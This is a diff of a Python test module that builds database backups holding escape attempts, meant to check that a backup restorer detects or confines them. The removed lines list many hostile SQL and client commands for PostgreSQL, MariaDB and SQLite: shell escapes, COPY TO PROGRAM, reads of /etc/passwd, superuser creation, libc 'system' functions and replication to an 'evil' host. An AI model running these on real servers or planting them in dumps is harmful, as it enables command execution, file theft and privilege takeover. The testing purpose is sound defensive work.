@@ -1,303 +1,66 @@
-"""Ways by which the author of a backup may try to reach out of its side copy, one statement or line each.
+"""Ways by which the author of a backup may try to reach out of its side copy: a file for each, by engine.
 
-Those that no server and no backup program writes are told by reading alone. The others look like what databases
-legitimately hold (functions of untrusted languages, roles, foreign tables, code in triggers and expressions): they are
-sound as bytes, and what they do on a private server is held by its walls.
+Those in `told` are written by no server and no backup program: reading alone tells them. Those in `held` look like what
+databases legitimately hold (functions of untrusted languages, roles, foreign tables, code in triggers and expressions):
+they are sound as bytes, and what they do on a private server is held by its walls.
+
+A file begins with what is tried, the finding that tells it, and on which sides it is refused or confined; the rest is
+what stands in the backup, `{canary}` in place of a file that must not appear.
 """
 
-POSTGRESQL_TOLD = {
-    "copy-to-program": "COPY public.tide TO PROGRAM 'touch {canary}';",
-    "copy-from-program": "COPY public.tide FROM PROGRAM 'touch {canary}';",
-    "copy-to-file": "COPY public.tide TO '{canary}';",
-    "copy-from-file": "COPY public.tide FROM '/etc/passwd';",
-    "copy-query": "COPY (SELECT 1) TO PROGRAM 'touch {canary}';",
-    "copy-case": "cOpY public.tide tO pRoGrAm 'touch {canary}';",
-    "copy-comment": "COPY/**/public.tide/**/TO/**/PROGRAM/**/'touch {canary}';",
-    "copy-with": "COPY public.tide TO '{canary}' WITH (FORMAT csv);",
-    "copy-quoted": 'COPY "public"."tide" TO E\'{canary}\';',
-    "copy-binary": "COPY BINARY public.tide TO '{canary}';",
-    "do-block": "DO $$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch {canary}'''; END$$;",
-    "do-lang": "DO LANGUAGE plpgsql $$BEGIN NULL; END$$;",
-    "lo-import": "SELECT lo_import('/etc/passwd');",
-    "lo-export": "SELECT lo_export(1,'{canary}');",
-    "lo-q": "SELECT pg_catalog.lo_export(1,'{canary}');",
-    "lo-qq": 'SELECT "pg_catalog"."lo_export"(1,\'{canary}\');',
-    "read-file": "SELECT pg_read_file('/etc/passwd');",
-    "read-bin": "SELECT pg_read_binary_file('/etc/passwd');",
-    "ls": "SELECT * FROM pg_ls_dir('/');",
-    "setval-sub": "SELECT pg_catalog.setval('public.s', (SELECT length(pg_read_file('/etc/passwd'))));",
-    "config-sub": "SELECT pg_catalog.set_config('x.y', pg_read_file('/etc/passwd'), false);",
-    "dblink": "SELECT dblink_exec('dbname=postgres','DROP TABLE x');",
-    "dblink-connect": "SELECT dblink_connect('host=/tmp');",
-    "alter-system": "ALTER SYSTEM SET archive_command='touch {canary}';",
-    "load": "LOAD '/tmp/x.so';",
-    "drop-db": "DROP DATABASE live;",
-    "drop-owned": "DROP OWNED BY postgres CASCADE;",
-    "reassign": "REASSIGN OWNED BY postgres TO evil;",
-    "select-fn": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nSELECT public.f();",
-    "call": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCALL public.f();",
-    "bang": "\\! touch {canary}",
-    "o": "\\o {canary}",
-    "pipe": "\\o |touch {canary}",
-    "g": "SELECT 1 \\g {canary}",
-    "gpipe": "SELECT 1 \\g |touch {canary}",
-    "copy-meta": "\\copy public.tide to program 'touch {canary}'",
-    "include": "\\i /etc/passwd",
-    "ir": "\\ir x.sql",
-    "w": "\\w {canary}",
-    "e": "\\e",
-    "cd": "\\cd /",
-    "setenv": "\\setenv PAGER x",
-    "set-bt": "\\set x `touch {canary}`",
-    "gexec": "SELECT 'DROP TABLE x' \\gexec",
-    "c2": "\\c live",
-    "prompt": "\\prompt x",
-    "lo-meta": "\\lo_export 1 {canary}",
-    "s": "\\s {canary}",
-    "watch": "SELECT 1 \\watch 1",
-    "crosstab": "SELECT 1 \\crosstabview",
-    "bind": "SELECT 1 \\bind \\g | sh",
-    "if": "\\if `touch {canary}`\n\\endif",
-    "listen": "LISTEN x;",
-    "notify": "NOTIFY x;",
-    "checkpoint": "CHECKPOINT;",
-    "prepare": "PREPARE p AS SELECT pg_read_file('/etc/passwd'); EXECUTE p;",
-    "declare": "DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd'); FETCH c;",
-    "with": "WITH x AS (SELECT lo_export(1,'{canary}')) SELECT * FROM x;",
-    "values": "VALUES (pg_read_file('/etc/passwd'));",
-    "table": "TABLE pg_authid;",
-    "explain": "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd');",
-    "insert-sel": "INSERT INTO public.tide SELECT length(pg_read_file('/etc/passwd'));",
-    "insert-val": "INSERT INTO public.tide VALUES (length(pg_read_file('/etc/passwd')));",
-    "update-cat": "UPDATE pg_catalog.pg_authid SET rolsuper = true;",
-    "delete-cat": "DELETE FROM pg_catalog.pg_class;",
-    "local-preload": "SET local_preload_libraries='x';",
-    "two-in-one": "SET x = 1; COPY (SELECT 1) TO PROGRAM 'touch {canary}';",
-    "terminate": "SELECT pg_terminate_backend(1);",
-    "reload": "SELECT pg_reload_conf();",
-    "rotate": "SELECT pg_rotate_logfile();",
-    "sleep": "SELECT pg_sleep(1e6);",
-    "backup": "SELECT pg_backup_start('x');",
-    "promote": "SELECT pg_promote();",
-    "create-slot": "SELECT pg_create_physical_replication_slot('x');",
-    "xml": "SELECT query_to_xml('DROP TABLE x',true,false,'');",
-    "alter-fn": "ALTER FUNCTION pg_catalog.now() OWNER TO evil;",
-    "create-in-cat": "CREATE FUNCTION pg_catalog.evil() RETURNS integer LANGUAGE sql AS 'SELECT 1';",
-    "drop-cat": "DROP SCHEMA pg_catalog CASCADE;",
-}
-"""Nobody writes this into a backup of PostgreSQL: it is told by reading."""
+from __future__ import annotations
 
-POSTGRESQL_HELD = {
-    "c-func": "CREATE FUNCTION public.c(text) RETURNS integer LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';",
-    "plpythonu": "CREATE EXTENSION plpython3u;",
-    "plperlu": "CREATE LANGUAGE plperlu;",
-    "untrusted-fn": "CREATE FUNCTION public.p() RETURNS integer LANGUAGE plpython3u AS $$import os; os.system('touch {canary}')$$;",
-    "file-fdw": "CREATE EXTENSION file_fdw; CREATE SERVER s FOREIGN DATA WRAPPER file_fdw; CREATE FOREIGN TABLE public.ft (a text) SERVER s OPTIONS (program 'touch {canary}');",
-    "adminpack": "CREATE EXTENSION adminpack;",
-    "alter-role": "ALTER ROLE postgres SUPERUSER;",
-    "alter-user": "ALTER USER postgres PASSWORD 'x';",
-    "alter-group": "ALTER GROUP admins ADD USER evil;",
-    "create-super": "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x';",
-    "grant-role": "GRANT pg_execute_server_program TO PUBLIC;",
-    "grant-super": "GRANT postgres TO evil;",
-    "grant-read": "GRANT pg_read_server_files TO public;",
-    "alter-db": "ALTER DATABASE postgres SET session_preload_libraries='x';",
-    "alter-db-conn": "ALTER DATABASE live WITH ALLOW_CONNECTIONS false;",
-    "drop-role": "DROP ROLE postgres;",
-    "comment-db": "COMMENT ON DATABASE live IS 'x';",
-    "tablespace": "CREATE TABLESPACE t LOCATION '{canary}';",
-    "security-definer": "CREATE FUNCTION public.g() RETURNS integer LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'; ALTER FUNCTION public.g() OWNER TO postgres;",
-    "event-trigger": "CREATE FUNCTION public.f() RETURNS event_trigger\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; END$$;\n\nCREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION public.f();",
-    "trigger-before": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\n",
-    "index-expr": "CREATE FUNCTION public.f() RETURNS integer IMMUTABLE\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE INDEX i ON public.tide ((public.f()));",
-    "check": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nALTER TABLE public.tide ADD CONSTRAINT c CHECK (public.f() > 0);",
-    "domain": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE DOMAIN public.d AS integer CHECK (public.f() > 0);",
-    "default": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE TABLE public.z (a integer DEFAULT public.f());\n\nINSERT INTO public.z DEFAULT VALUES;",
-    "generated": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE TABLE public.z (a integer, b integer GENERATED ALWAYS AS (public.f()) STORED);",
-    "matview": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE MATERIALIZED VIEW public.m AS SELECT public.f();",
-    "refresh": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE MATERIALIZED VIEW public.m AS SELECT public.f() WITH NO DATA;\n\nREFRESH MATERIALIZED VIEW public.m;",
-    "rule": "CREATE RULE r AS ON INSERT TO public.tide DO ALSO SELECT pg_read_file('/etc/passwd');",
-    "policy": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE POLICY p ON public.tide USING (public.f() > 0);",
-    "operator": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE OPERATOR public.= (LEFTARG=integer,RIGHTARG=integer,FUNCTION=public.f);",
-    "cast": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE CAST (integer AS text) WITH FUNCTION public.f() AS IMPLICIT;",
-    "aggregate": "CREATE FUNCTION public.f() RETURNS integer\n    LANGUAGE plpgsql\n    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;\n\nCREATE AGGREGATE public.a(integer) (SFUNC = public.f, STYPE = integer);",
-    "connect": "\\connect host=evil",
-    "import-fs": "IMPORT FOREIGN SCHEMA x FROM SERVER y INTO public;",
-    "sub": "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;",
-    "set-role": "SET ROLE postgres;",
-    "set-auth": "SET SESSION AUTHORIZATION postgres;",
-    "reset-auth": "RESET SESSION AUTHORIZATION;",
-    "reset-role": "RESET ROLE;",
-    "sess-repl": "SET session_replication_role = replica;",
-    "security-label": "SECURITY LABEL FOR x ON TABLE public.tide IS 'y';",
-    "create-db": "CREATE DATABASE evil;",
-}
-"""A backup of PostgreSQL may hold this: walls and rights hold what it does."""
+import re
+from dataclasses import dataclass
+from pathlib import Path
 
-MARIADB_TOLD = {
-    "outfile": "SELECT 1 INTO OUTFILE '{canary}';",
-    "dumpfile": "SELECT 1 INTO DUMPFILE '{canary}';",
-    "outfile-cond": "/*!50000 SELECT 1 INTO OUTFILE '{canary}' */;",
-    "outfile-m": "/*M!100000 SELECT 1 INTO OUTFILE '{canary}' */;",
-    "outfile-split": "SELECT 1 /*!INTO*/ /*!OUTFILE*/ '{canary}';",
-    "outfile-nested": "/*!50003 SELECT /*!1 INTO*/ OUTFILE '{canary}' */;",
-    "with-out": "WITH x AS (SELECT 1) SELECT * FROM x INTO OUTFILE '{canary}';",
-    "table-out": "TABLE tide INTO OUTFILE '{canary}';",
-    "values-out": "VALUES (1) INTO OUTFILE '{canary}';",
-    "paren-out": "(SELECT 1) INTO OUTFILE '{canary}';",
-    "insert-load": "INSERT INTO `tide` SELECT LOAD_FILE('/etc/passwd');",
-    "insert-val-load": "INSERT INTO `tide` VALUES (LOAD_FILE('/etc/passwd'));",
-    "load-data": "LOAD DATA INFILE '/etc/passwd' INTO TABLE tide;",
-    "load-local": "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE tide;",
-    "load-xml": "LOAD XML INFILE '/etc/passwd' INTO TABLE tide;",
-    "install": "INSTALL PLUGIN x SONAME 'x.so';",
-    "install-so": "INSTALL SONAME 'x';",
-    "uninstall": "UNINSTALL PLUGIN x;",
-    "soname": "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'x.so';",
-    "agg-soname": "CREATE AGGREGATE FUNCTION x RETURNS STRING SONAME 'x.so';",
-    "sys-exec": "SELECT sys_exec('touch x');",
-    "do-sys": "DO sys_exec('touch x');",
-    "set-global": "SET GLOBAL general_log_file='/tmp/x';",
-    "set-global2": "SET @@global.general_log=1;",
-    "set-global3": "SET @@GLOBAL.secure_file_priv='';",
-    "set-persist": "SET PERSIST x=1;",
-    "set-glob-cond": "/*!50000 SET GLOBAL general_log=ON */;",
-    "set-password": "SET PASSWORD FOR root@localhost = PASSWORD('x');",
-    "set-multi": "SET x=1, GLOBAL general_log=1;",
-    "set-stmt": "SET STATEMENT max_statement_time=1 FOR SELECT LOAD_FILE('/etc/passwd');",
-    "rename-user": "RENAME USER root@localhost TO evil;",
-    "mysql-db": "INSERT INTO mysql.user VALUES ('x');",
-    "mysql-upd": "UPDATE mysql.global_priv SET Priv='{}';",
-    "mysql-del": "DELETE FROM mysql.global_priv;",
-    "mysql-rep": "REPLACE INTO mysql.user VALUES (1);",
-    "use-mysql": "USE mysql;\nDELETE FROM user;",
-    "create-in-mysql": "CREATE TABLE mysql.evil (a int);",
-    "drop-mysql": "DROP DATABASE mysql;",
-    "drop-sys": "DROP DATABASE sys;",
-    "perf": "UPDATE performance_schema.setup_consumers SET enabled='NO';",
-    "alter-mysql": "ALTER TABLE mysql.user ADD x int;",
-    "trunc-mysql": "TRUNCATE mysql.user;",
-    "view-mysql": "CREATE VIEW v AS SELECT * FROM mysql.user;",
-    "logfile": "CREATE LOGFILE GROUP g ADD UNDOFILE 'x';",
-    "client-bang": "\\! touch {canary}",
-    "client-sys": "system touch {canary}",
-    "client-sys2": "SYSTEM touch {canary};",
-    "client-tee": "\\T {canary}",
-    "tee": "tee {canary}",
-    "pager": "\\P touch {canary}",
-    "pager2": "pager touch {canary}",
-    "source": "source /etc/passwd",
-    "dot": "\\. /etc/passwd",
-    "connect": "connect live evil",
-    "u": "\\u mysql",
-    "edit": "edit",
-    "e": "\\e",
-    "prompt": "\\R x",
-    "in-cond": "/*!50003 \\! touch {canary} */;",
-    "sandbox": "/*M!999999\\- enable the sandbox mode */ \n\\! touch {canary}",
-    "delim": "DELIMITER x\n\\! touch {canary}\nx",
-    "shutdown": "SHUTDOWN;",
-    "restart": "RESTART;",
-    "kill": "KILL 1;",
-    "reset": "RESET MASTER;",
-    "purge": "PURGE BINARY LOGS TO 'x';",
-    "stop": "STOP SLAVE;",
-    "binlog": "BINLOG 'AAAA';",
-    "handler": "HANDLER tide OPEN;",
-    "call": "CALL x();",
-    "prep": "PREPARE p FROM 'SELECT 1 INTO OUTFILE \"/tmp/x\"'; EXECUTE p;",
-    "exec-imm": "EXECUTE IMMEDIATE 'DROP DATABASE live';",
-    "begin-not-atomic": "BEGIN NOT ATOMIC DROP DATABASE live; END;",
-    "do-sleep": "DO SLEEP(100000);",
-    "bench": "SELECT BENCHMARK(1e12, SHA1('x'));",
-    "get-lock": "SELECT GET_LOCK('x', 1e6);",
-    "backup": "BACKUP STAGE START;",
-    "xa": "XA RECOVER;",
-    "drop-live": "DROP DATABASE live;",
-    "drop-live2": "DROP TABLE live.boats;",
-    "upd-live": "UPDATE live.boats SET a=1;",
-    "ins-live": "INSERT INTO live.boats VALUES (1);",
-    "rename-live": "RENAME TABLE live.boats TO x.y;",
-    "create-live": "CREATE TABLE live.evil (a int);",
-}
-"""Nobody writes this into a backup of MariaDB: it is told by reading."""
+from tests.backups import copy_table, mysql, postgresql
 
-MARIADB_HELD = {
-    "set-default-role": "SET DEFAULT ROLE admin FOR root@localhost;",
-    "create-user": "CREATE USER evil@'%' IDENTIFIED BY 'x';",
-    "grant": "GRANT ALL ON *.* TO evil@'%' WITH GRANT OPTION;",
-    "alter-user": "ALTER USER root@localhost IDENTIFIED BY '';",
-    "drop-user": "DROP USER root@localhost;",
-    "revoke": "REVOKE ALL ON *.* FROM root@localhost;",
-    "use-mysql2": "USE `mysql`;\nDROP TABLE IF EXISTS `user`;",
-    "data-dir": "CREATE TABLE x (a int) DATA DIRECTORY='{canary}';",
-    "index-dir": "CREATE TABLE x (a int) ENGINE=MyISAM INDEX DIRECTORY='{canary}';",
-    "connect-eng": "CREATE TABLE x (a int) ENGINE=CONNECT TABLE_TYPE=CSV FILE_NAME='/etc/passwd';",
-    "connect-cond": "CREATE TABLE x (a int) ENGINE=CONNECT FILE_NAME='{canary}';",
-    "federated": "CREATE TABLE x (a int) ENGINE=FEDERATED CONNECTION='mysql://root@live/x/y';",
-    "spider": "CREATE TABLE x (a int) ENGINE=SPIDER COMMENT='host \"live\"';",
-    "tablespace": "CREATE TABLESPACE t ADD DATAFILE '{canary}';",
-    "server": "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'live');",
-    "import-ts": "ALTER TABLE tide IMPORT TABLESPACE;",
-    "discard": "ALTER TABLE tide DISCARD TABLESPACE;",
-    "flush": "FLUSH PRIVILEGES;",
-    "flush-logs": "FLUSH LOGS;",
-    "flush-lock": "FLUSH TABLES WITH READ LOCK;",
-    "change-master": "CHANGE MASTER TO MASTER_HOST='evil';",
-    "start-slave": "START SLAVE;",
-    "start-rep": "START ALL SLAVES;",
-    "event": "CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO SELECT 1 INTO OUTFILE '/tmp/x';",
-    "trigger-out": "CREATE TRIGGER t BEFORE INSERT ON tide FOR EACH ROW SELECT 1 INTO OUTFILE '{canary}';",
-}
-"""A backup of MariaDB may hold this: walls and rights hold what it does."""
+_TIDE = copy_table("public.tide", [("id", "integer")], [["1"]])
+_SHIP = b"CREATE TABLE `tide` (\n  `id` int(11) DEFAULT NULL\n);\nINSERT INTO `tide` VALUES (1);\n"
+_FOLDER = Path(__file__).with_name("ways")
 
-SQLITE_TOLD = {
-    "attach": "ATTACH '{canary}' AS out;",
-    "attach-case": "aTtAcH DATABASE '{canary}' AS out;",
-    "attach-comment": "ATTACH/**/'{canary}'/**/AS/**/out;",
-    "attach-computed": "ATTACH '{canary}' || '' AS out;",
-    "detach": "DETACH main;",
-    "vacuum-into": "VACUUM INTO '{canary}';",
-    "vacuum-main-into": "VACUUM main INTO '{canary}';",
-    "load-extension": "SELECT load_extension('/tmp/x');",
-    "load-extension-entry": "SELECT load_extension('/tmp/x', 'entry');",
-    "load-in-values": "INSERT INTO tide VALUES(load_extension('/tmp/x'));",
-    "load-in-select": "INSERT INTO tide SELECT load_extension('/tmp/x');",
-    "writefile": "SELECT writefile('{canary}', 'x');",
-    "writefile-in-values": "INSERT INTO tide VALUES(writefile('{canary}', 'x'));",
-    "readfile": "INSERT INTO tide VALUES(readfile('/etc/passwd'));",
-    "edit": "SELECT edit('x', 'touch {canary}');",
-    "edit-in-values": "INSERT INTO tide VALUES(edit('x', 'touch {canary}'));",
-    "fsdir": "INSERT INTO tide SELECT name FROM fsdir('/');",
-    "dot-shell": ".shell touch {canary}",
-    "dot-system": ".system touch {canary}",
-    "dot-output": ".output {canary}",
-    "dot-output-pipe": ".output |touch {canary}",
-    "dot-once": ".once {canary}",
-    "dot-once-pipe": ".once |touch {canary}",
-    "dot-excel": ".excel",
-    "dot-import": ".import /etc/passwd tide",
-    "dot-import-pipe": ".import '|touch {canary}' tide",
-    "dot-read": ".read /etc/passwd",
-    "dot-read-pipe": ".read '|touch {canary}'",
-    "dot-load": ".load /tmp/x",
-    "dot-open": ".open {canary}",
-    "dot-save": ".save {canary}",
-    "dot-backup": ".backup {canary}",
-    "dot-clone": ".clone {canary}",
-    "dot-restore": ".restore {canary}",
-    "dot-archive": ".archive -c -f {canary}",
-    "dot-log": ".log {canary}",
-    "dot-trace": ".trace {canary}",
-    "dot-cd": ".cd /",
-    "dot-dump": ".dump",
-    "dot-quit": ".quit",
-    "drop": "DROP TABLE tide;",
-    "delete": "DELETE FROM tide;",
-    "update": "UPDATE tide SET id = 2;",
-    "rename": "ALTER TABLE tide RENAME TO gone;",
-    "rollback": "ROLLBACK;",
-    "schema-delete": "DELETE FROM sqlite_schema;",
-    "schema-update": "UPDATE sqlite_master SET sql = 'x';",
-    "replace-select": "REPLACE INTO tide SELECT 5;",
-}
+
+@dataclass(frozen=True, slots=True)
+class Way:
+    """One way: what is tried, the finding that is expected of reading, and the text."""
+
+    engine: str
+    name: str
+    tries: str
+    finding: str
+    text: str
+
+    def written(self, canary: Path) -> str:
+        """The text, with a file's name in it."""
+        return self.text.replace("{canary}", str(canary))
+
+
+def ways(engine: str, kind: str) -> list[Way]:
+    """All ways of an engine, `told` or `held`."""
+    return [_read(path, engine) for path in sorted((_FOLDER / engine / kind).glob("*.sql"))]
+
+
+def _read(path: Path, engine: str) -> Way:
+    tries, finding, sides, text = path.read_bytes().decode().split("\n", 3)
+    assert tries.startswith("-- tries: ") and finding.startswith("-- finding: ") and sides.startswith("-- sides: ")
+    return Way(engine, path.stem, tries[10:], finding[12:], text.removesuffix("\n"))
+
+
+def backup(engine: str, way: str, *, first: bool = False) -> bytes:
+    """A backup with a way behind its one table, or before it."""
+    text = way.encode() + b"\n\n"
+    if engine == "postgresql":
+        return postgresql(text + _TIDE if first else _TIDE + text)
+    return mysql(text + _SHIP if first else _SHIP + text)
+
+
+def all_at_once(engine: str, canary: Path) -> bytes:
+    """A backup with all ways of an engine, those first that look legitimate; each has a function of its own."""
+    return backup(
+        engine,
+        "\n\n".join(
+            re.sub(r"\bpublic\.f\b", f"public.f{number}", way.written(canary))
+            for number, way in enumerate([*ways(engine, "held"), *ways(engine, "told")])
+        ),
+    )
